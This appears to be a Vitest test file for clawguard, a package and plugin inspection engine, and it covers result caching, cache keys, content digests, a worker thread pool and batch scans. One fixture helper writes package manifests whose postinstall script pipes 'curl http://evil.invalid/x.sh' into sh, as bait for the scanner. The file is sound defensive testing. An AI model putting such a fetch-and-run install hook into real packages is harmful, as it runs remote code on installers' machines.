/**
 * The inspection service (src/engine): one content-addressed cache for every caller. A package inspected
 * from its tarball (`plugins install`) is a hit when the policy hook sees the same bytes on disk, and the
 * reverse; keys change with everything that decides a result and nothing that only says where it sits.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import * as tar from 'tar';
import { afterAll, describe, expect, it } from 'vitest';
import { contentDigest, engineDigest, InspectionService, npmCacheRoot, resultCacheDir } from '../../src/engine/index.js';
import { registryManifestPart, resultKey } from '../../src/engine/keys.js';
import { DiskResultCache } from '../../src/engine/result-cache.js';
import { EnginePool, threadsFor } from '../../src/engine/pool.js';
import type { Job } from '../../src/engine/jobs.js';
import { DEFAULT_RULES_DIR } from '../../src/inspect/rules/load.js';

const fixtures = path.resolve(__dirname, '../../fixtures/packages');
const temps: string[] = [];
const tempDir = () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'clawguard-engine-'));
  temps.push(dir);
  return dir;
};
afterAll(() => {
  for (const d of temps) fs.rmSync(d, { recursive: true, force: true });
});

/** `npm pack`-shaped tarball bytes of a fixture folder (entries under package/). */
function packed(fixture: string): Buffer {
  const file = path.join(tempDir(), 'pkg.tgz');
  tar.c({ gzip: true, file, cwd: path.join(fixtures, fixture), prefix: 'package/', sync: true, portable: true }, fs.readdirSync(path.join(fixtures, fixture)));
  return fs.readFileSync(file);
}

const manifestOf = (fixture: string) => JSON.parse(fs.readFileSync(path.join(fixtures, fixture, 'package.json'), 'utf8')) as Record<string, unknown>;
const idOf = (fixture: string) => `${manifestOf(fixture).name}@${manifestOf(fixture).version}`;
const resultFiles = (dir: string) =>
  fs
    .readdirSync(dir, { recursive: true, encoding: 'utf8' })
    .filter((f) => f.endsWith('.json'))
    .filter((f) => Array.isArray(JSON.parse(fs.readFileSync(path.join(dir, f), 'utf8')).value?.findings));

describe('one cache across callers', () => {
  const fixture = 'credential-stealer-plugin';

  it('a package inspected from its tarball (install) is a hit for the same bytes on disk (policy hook)', async () => {
    const cacheDir = tempDir();
    const install = new InspectionService({ cacheDir });
    const fromTarball = await install.inspectTarball({ tarball: packed(fixture), dir: path.join(tempDir(), 'x'), packageId: idOf(fixture), registryManifest: manifestOf(fixture) });
    expect(fromTarball.cached).toBe(false);
    expect(fromTarball.findings.length).toBeGreaterThan(0);
    const onDisk = path.join(tempDir(), 'node_modules', 'stealer');
    fs.cpSync(path.join(fixtures, fixture), onDisk, { recursive: true });
    // Another process: nothing in memory, only the disk cache in common.
    const policy = new InspectionService({ cacheDir });
    const fromDir = await policy.inspectDir('package', onDisk, { packageId: idOf(fixture), excludeNodeModules: true });
    expect(fromDir.cached).toBe(true);
    expect(fromDir.findings).toEqual(fromTarball.findings.filter((f) => !f.ruleId.startsWith('tarball-')));
    expect(resultFiles(cacheDir)).toHaveLength(1);
  });

  it('and the reverse: a directory judged by the policy hook is a hit for install', async () => {
    const cacheDir = tempDir();
    const onDisk = path.join(tempDir(), 'pkg');
    fs.cpSync(path.join(fixtures, fixture), onDisk, { recursive: true });
    const fresh = await new InspectionService({ cacheDir }).inspectDir('package', onDisk, { packageId: idOf(fixture), excludeNodeModules: true });
    expect(fresh.cached).toBe(false);
    const install = await new InspectionService({ cacheDir }).inspectTarball({ tarball: packed(fixture), dir: path.join(tempDir(), 'x'), packageId: idOf(fixture), registryManifest: manifestOf(fixture) });
    expect(install.cached).toBe(true);
    expect(install.findings).toEqual(fresh.findings);
    expect(resultFiles(cacheDir)).toHaveLength(1);
    // Second install of the same tarball: no unpack either (the alias), same answer.
    const again = await new InspectionService({ cacheDir }).inspectTarball({ tarball: packed(fixture), dir: path.join(tempDir(), 'y'), packageId: idOf(fixture), registryManifest: manifestOf(fixture) });
    expect(again).toEqual(install);
  });

  it('a registry manifest that disagrees with the tarball is judged on its own (manifest confusion is found)', async () => {
    const cacheDir = tempDir();
    const fixtureClean = 'clean-plugin';
    const service = new InspectionService({ cacheDir });
    const agreeing = await service.inspectTarball({ tarball: packed(fixtureClean), dir: path.join(tempDir(), 'a'), packageId: idOf(fixtureClean), registryManifest: manifestOf(fixtureClean) });
    const lying = { ...manifestOf(fixtureClean), scripts: { postinstall: 'node other.js' } };
    const disagreeing = await service.inspectTarball({ tarball: packed(fixtureClean), dir: path.join(tempDir(), 'b'), packageId: idOf(fixtureClean), registryManifest: lying });
    expect(disagreeing.cached).toBe(false);
    expect(disagreeing.findings.map((f) => f.ruleId)).not.toEqual(agreeing.findings.map((f) => f.ruleId));
  });

  it('results carry no dependency path: the caller places them', async () => {
    const onDisk = path.join(tempDir(), 'pkg');
    fs.cpSync(path.join(fixtures, fixture), onDisk, { recursive: true });
    const res = await new InspectionService({ cacheDir: null }).inspectDir('package', onDisk, { packageId: idOf(fixture) });
    expect(res.findings.length).toBeGreaterThan(0);
    for (const f of res.findings) {
      expect(f.path).toBeUndefined();
      expect(f.package).toBe(idOf(fixture));
    }
  });
});

describe('keys', () => {
  const content = contentDigest(path.join(fixtures, 'clean-plugin'));
  const base = { kind: 'package' as const, packageId: 'a@1.0.0', content, excludeNodeModules: true, manifestPart: null };

  it('change with the bytes, the id, the kind, a disagreeing registry manifest and the rules; not with key order', () => {
    const key = resultKey(base);
    expect(resultKey({ ...base })).toBe(key);
    for (const changed of [
      { content: { ...content, sha256: '0'.repeat(64) } },
      { packageId: 'a@1.0.1' },
      { kind: 'skill' as const },
      { manifestPart: registryManifestPart({ name: 'a', scripts: { postinstall: 'x' } }, { name: 'a' }) },
    ])
      expect(resultKey({ ...base, ...changed }), JSON.stringify(changed)).not.toBe(key);
    // A registry manifest equal (in any key order) to package.json on the compared fields leaves the key alone.
    expect(registryManifestPart({ version: '1.0.0', name: 'a', dist: { tarball: 'x' } }, { name: 'a', version: '1.0.0', description: 'y' })).toBeNull();
    expect(registryManifestPart(undefined, { name: 'a' })).toBeNull();
  });

  it('a changed rule set changes the engine digest, hence every key', () => {
    const a = tempDir();
    const b = tempDir();
    for (const name of fs.readdirSync(DEFAULT_RULES_DIR)) {
      fs.copyFileSync(path.join(DEFAULT_RULES_DIR, name), path.join(a, name));
      fs.copyFileSync(path.join(DEFAULT_RULES_DIR, name), path.join(b, name));
    }
    expect(engineDigest(a)).toBe(engineDigest(DEFAULT_RULES_DIR));
    fs.appendFileSync(path.join(b, fs.readdirSync(b).find((n) => n.endsWith('.yaml'))!), '\n# edited\n');
    expect(engineDigest(b)).not.toBe(engineDigest(a));
    expect(resultKey({ ...base, rulesDir: b })).not.toBe(resultKey({ ...base, rulesDir: a }));
  });
});

describe('the disk cache', () => {
  it('an entry under another key, a malformed entry, or CLAWGUARD_INSPECT_CACHE=0 is a miss; directories are private', () => {
    const dir = tempDir();
    const key = 'ab'.repeat(32);
    const other = 'cd'.repeat(32);
    expect(new DiskResultCache(dir).get(key)).toBeUndefined();
    new DiskResultCache(dir).set(key, { findings: [] });
    expect(new DiskResultCache(dir).get(key)).toEqual({ findings: [] });
    const file = (k: string) => path.join(dir, k.slice(0, 2), `${k}.json`);
    fs.mkdirSync(path.dirname(file(other)), { recursive: true });
    fs.copyFileSync(file(key), file(other));
    expect(new DiskResultCache(dir).get(other)).toBeUndefined();
    fs.writeFileSync(file(key), '{"format":');
    expect(new DiskResultCache(dir).get(key)).toBeUndefined();
    expect((fs.statSync(path.dirname(file(key))).mode & 0o777).toString(8)).toBe('700');
    expect((fs.statSync(file(other)).mode & 0o777).toString(8)).toBe('600');
    expect(resultCacheDir({ HOME: dir, CLAWGUARD_INSPECT_CACHE: '0' })).toBeUndefined();
  });

  it('lives beside npm\'s cache, resolved as npm does, also from the empty environment OpenClaw gives the hook', () => {
    const home = tempDir();
    expect(resultCacheDir({ HOME: home })).toBe(path.join(home, '.npm', '_clawguard', 'inspect-v2'));
    expect(resultCacheDir({ HOME: home, npm_config_cache: path.join(home, 'c') })).toBe(path.join(home, 'c', '_clawguard', 'inspect-v2'));
    fs.writeFileSync(path.join(home, '.npmrc'), 'registry=http://x/\ncache = ~/elsewhere\n');
    expect(npmCacheRoot({ HOME: home })).toBe(path.join(home, 'elsewhere'));
    // No home that exists: off, rather than a cache tree made up somewhere.
    expect(resultCacheDir({ HOME: path.join(home, 'missing', 'deeper') })).toBeUndefined();
    // An empty environment: the account's home (what npm itself falls back to).
    const fromPasswd = os.homedir();
    if (fromPasswd && fromPasswd !== '/' && fs.existsSync(fromPasswd)) expect(resultCacheDir({})).toBe(path.join(fromPasswd, '.npm', '_clawguard', 'inspect-v2'));
  });
});

describe('content digest', () => {
  it('covers paths, bytes and links; the installed form forgives one CRLF on a shebang line; node_modules is separate', () => {
    const dir = tempDir();
    fs.writeFileSync(path.join(dir, 'package.json'), '{"name":"d","version":"1.0.0"}');
    fs.writeFileSync(path.join(dir, 'cli.js'), '#!/usr/bin/env node\r\nconsole.log(1)\n');
    const before = contentDigest(dir);
    fs.writeFileSync(path.join(dir, 'cli.js'), '#!/usr/bin/env node\nconsole.log(1)\n');
    const after = contentDigest(dir);
    expect(after.sha256).not.toBe(before.sha256);
    expect(after.installedSha256).toBe(before.installedSha256);
    fs.mkdirSync(path.join(dir, 'node_modules', 'x'), { recursive: true });
    fs.writeFileSync(path.join(dir, 'node_modules', 'x', 'index.js'), '1');
    expect(contentDigest(dir).sha256).toBe(after.sha256);
    expect(contentDigest(dir).hasTopNodeModules).toBe(true);
    const withNm = contentDigest(dir, { skipTopNodeModules: false });
    expect(withNm.sha256).not.toBe(after.sha256);
    expect(withNm.installedSha256).toBe(after.installedSha256);
    fs.symlinkSync('/etc/passwd', path.join(dir, 'link'));
    expect(contentDigest(dir).sha256).not.toBe(after.sha256);
  });
});

describe('the pool', () => {
  it('threads only where they pay: override, tiny batches, core count', () => {
    expect(threadsFor(500, { CLAWGUARD_INSPECT_WORKERS: '0' })).toBe(0);
    expect(threadsFor(500, { CLAWGUARD_INSPECT_WORKERS: '3' })).toBe(3);
    expect(threadsFor(1, {})).toBe(0);
    expect(threadsFor(500, {})).toBeGreaterThan(0);
  });

  it('below 4 cores a large batch gets a thread per core (no core idles), a small one none', () => {
    expect(threadsFor(331, {}, 2)).toBe(2);
    expect(threadsFor(331, {}, 1)).toBe(1);
    expect(threadsFor(331, {}, 3)).toBe(3);
    expect(threadsFor(99, {}, 2)).toBe(0);
    expect(threadsFor(331, {}, 8)).toBe(4);
  });

  it('a thread can collect its heap between jobs (what a big package left is given back)', async () => {
    const { collect } = await import('../../src/engine/worker.js');
    expect(typeof collect).toBe('function');
    // ~85 MiB of strings, alive while measured, then dropped.
    let garbage: string[] | undefined = Array.from({ length: 400_000 }, (_, i) => `garbage ${i} `.repeat(16));
    const before = process.memoryUsage().heapUsed;
    expect(garbage.length).toBe(400_000);
    garbage = undefined;
    collect!();
    expect(process.memoryUsage().heapUsed).toBeLessThan(before - 40 * 1024 * 1024);
  });

  /**
   * Real threads running a script of the test's own (the engine's worker is only built in dist/): 'mark' leaves its
   * thread marked, 'crash' ends a marked thread (process.exit in a thread ends the thread) and answers on a fresh one,
   * 'grow' allocates without end under a 64 MiB heap limit.
   */
  it('a thread that dies is replaced: its job runs once more on a fresh thread; one that runs out of heap twice fails alone, named', async () => {
    const script = path.join(tempDir(), 'thread.mjs');
    fs.writeFileSync(
      script,
      `import { parentPort, threadId } from 'node:worker_threads';
let marked = false;
parentPort.on('message', ({ id, job }) => {
  if (job.op === 'mark') marked = true;
  if (job.op === 'crash' && marked) process.exit(1);
  if (job.op === 'grow') { const a = []; for (;;) a.push(new Array(8192).fill(1.5)); }
  parentPort.postMessage({ id, ok: true, result: threadId });
});
`,
    );
    const before = process.env.CLAWGUARD_THREAD_HEAP_MB;
    process.env.CLAWGUARD_THREAD_HEAP_MB = '64';
    const pool = new EnginePool(1, pathToFileURL(script));
    try {
      const job = (op: string) => pool.run<number>({ op } as unknown as Job);
      const first = await job('mark');
      // the marked thread dies under the job; the job is answered by the next thread
      const second = await job('crash');
      expect(second).not.toBe(first);
      const failed = await job('grow').then(
        () => undefined,
        (err: unknown) => err as { code?: string; message: string; hint?: string },
      );
      expect(failed?.code).toBe('ENGINE_OUT_OF_MEMORY');
      expect(failed?.message).toMatch(/ran out of memory.*64 MiB/);
      expect(failed?.hint).toMatch(/CLAWGUARD_THREAD_HEAP_MB/);
      // The pool still has a thread for what comes next.
      expect(await job('mark')).toBeGreaterThan(second);
    } finally {
      if (before === undefined) delete process.env.CLAWGUARD_THREAD_HEAP_MB;
      else process.env.CLAWGUARD_THREAD_HEAP_MB = before;
      await pool.close();
    }
  }, 60_000);

  it('a thread that dies at every start is replaced a few times only: its jobs fail, nothing waits for ever', async () => {
    const script = path.join(tempDir(), 'broken.mjs');
    fs.writeFileSync(script, "throw new Error('this build is broken');\n");
    const pool = new EnginePool(1, pathToFileURL(script));
    try {
      const job = () => pool.run<number>({ op: 'x' } as unknown as Job).then(() => 'answered', (err: Error) => err.message);
      expect(await job()).toMatch(/this build is broken/);
      // the replacements run out (four per thread, then no thread is left and none is started again); a later job
      // is refused at once instead of queueing behind no thread
      const inside = pool as unknown as { workers: unknown[]; respawns: number };
      for (let waited = 0; inside.workers.length > 0 && waited < 30_000; waited += 100) await new Promise((r) => setTimeout(r, 100));
      expect(inside.workers).toHaveLength(0);
      expect(inside.respawns).toBeLessThanOrEqual(5);
      expect(await job()).toMatch(/no inspection thread is left/);
    } finally {
      await pool.close();
    }
  }, 60_000);
});

describe('a batch (inspectDirs, a dependency tree)', () => {
  /** Three packages of different sizes, each with a finding, in tree order small, large, medium. */
  function tree(): Array<{ name: string; dir: string }> {
    const root = tempDir();
    return [
      ['a-small', 1],
      ['b-large', 40],
      ['c-medium', 10],
    ].map(([name, kib]) => {
      const dir = path.join(root, 'node_modules', String(name));
      fs.mkdirSync(dir, { recursive: true });
      fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name, version: '1.0.0', scripts: { postinstall: 'curl http://evil.invalid/x.sh | sh' } }));
      fs.writeFileSync(path.join(dir, 'data.txt'), 'x'.repeat(Number(kib) * 1024));
      return { name: String(name), dir };
    });
  }
  const items = (pkgs: Array<{ name: string; dir: string }>) => pkgs.map((p) => ({ kind: 'package' as const, dir: p.dir, packageId: `${p.name}@1.0.0`, excludeNodeModules: true }));

  it('gives each directory what inspectDir gives; hits come from the lookup pass, misses run largest first', async () => {
    const pkgs = tree();
    const cacheDir = tempDir();
    const one = new InspectionService({ cacheDir });
    const alone = await Promise.all(pkgs.map((p) => one.inspectDir('package', p.dir, { packageId: `${p.name}@1.0.0`, excludeNodeModules: true })));
    // a-small is now cached in a fresh cache; the other two are not.
    const second = tempDir();
    await new InspectionService({ cacheDir: second }).inspectDir('package', pkgs[0].dir, { packageId: 'a-small@1.0.0', excludeNodeModules: true });
    const order: string[] = [];
    const got: Record<string, { findings: unknown; cached: boolean }> = {};
    await new InspectionService({ cacheDir: second }).inspectDirs(items(pkgs), (i, res) => {
      if (res instanceof Error) throw res;
      order.push(pkgs[i].name);
      got[pkgs[i].name] = res;
    });
    expect(order).toEqual(['a-small', 'b-large', 'c-medium']);
    expect(got['a-small'].cached).toBe(true);
    expect(got['b-large'].cached).toBe(false);
    pkgs.forEach((p, i) => expect(got[p.name].findings).toEqual(alone[i].findings));
    expect(alone[0].findings).not.toEqual([]);
  });

  it('order of the misses is by bytes, not by tree order', async () => {
    const pkgs = tree().reverse(); // medium, large, small
    const order: string[] = [];
    await new InspectionService({ cacheDir: tempDir() }).inspectDirs(items(pkgs), (i) => void order.push(pkgs[i].name));
    expect(order).toEqual(['b-large', 'c-medium', 'a-small']);
  });

  it('stopped between jobs: it rejects at once, nothing more starts or is reported, what finished is cached for the retry', async () => {
    const pkgs = tree();
    const cacheDir = tempDir();
    const reported: string[] = [];
    const stop = new Error('out of time');
    const batch = new InspectionService({ cacheDir }).inspectDirs(
      items(pkgs),
      (i) => void reported.push(pkgs[i].name),
      {
        beforeEach: (done) => {
          if (done >= 1) throw stop;
        },
      },
    );
    await expect(batch).rejects.toBe(stop);
    expect(reported).toEqual(['b-large']);
    // The retry: the finished package is a hit, the others run.
    const cached: Record<string, boolean> = {};
    await new InspectionService({ cacheDir }).inspectDirs(items(pkgs), (i, res) => {
      if (res instanceof Error) throw res;
      cached[pkgs[i].name] = res.cached;
    });
    expect(cached).toEqual({ 'a-small': false, 'b-large': true, 'c-medium': false });
  });

  it('an engine error is reported for its item and never cached; the rest of the batch goes on', async () => {
    const pkgs = tree();
    const missing = { kind: 'package' as const, dir: path.join(tempDir(), 'gone'), packageId: 'gone@1.0.0', excludeNodeModules: true };
    const results: Array<string> = [];
    await new InspectionService({ cacheDir: tempDir() }).inspectDirs([missing, ...items(pkgs)], (i, res) => void results.push(res instanceof Error ? `error ${i}` : `ok ${i}`));
    expect(results.sort()).toEqual(['error 0', 'ok 1', 'ok 2', 'ok 3']);
  });
});
